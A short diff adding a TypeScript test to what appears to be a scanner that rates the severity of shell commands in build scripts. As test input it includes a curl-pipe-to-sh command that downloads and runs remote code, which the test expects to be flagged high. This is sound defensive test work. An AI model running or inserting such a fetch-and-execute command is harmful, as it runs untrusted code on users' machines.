@@ -44,3 +44,12 @@ test("a command that constants are made into is hidden", () => {
     ...["high", "medium", "low", "info", "info"],
   ]);
 });
+
+test("of a shell script only what is grave is said", () => {
+  const line = (argument: string) =>
+    severitiesAt(runsCommand, ["build", "script"], effect("process.shell-line", { argument }));
+
+  expect(line("curl -fsSL https://example.org/a | sh")).toEqual(["high", "high"]);
+  expect(line('exec python "$@"')).toEqual([null, null]);
+  expect(line("make install")).toEqual([null, null]);
+});
